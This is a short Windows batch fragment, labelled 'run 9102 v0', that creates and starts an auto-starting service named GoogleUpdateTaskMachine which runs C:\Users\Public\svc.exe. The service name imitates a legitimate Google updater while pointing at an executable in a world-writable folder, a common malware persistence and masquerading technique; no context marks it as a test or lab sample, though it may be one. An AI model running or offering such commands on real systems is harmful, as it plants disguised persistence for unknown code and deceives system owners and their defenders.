REM run 9102 v0
sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start GoogleUpdateTaskMachine
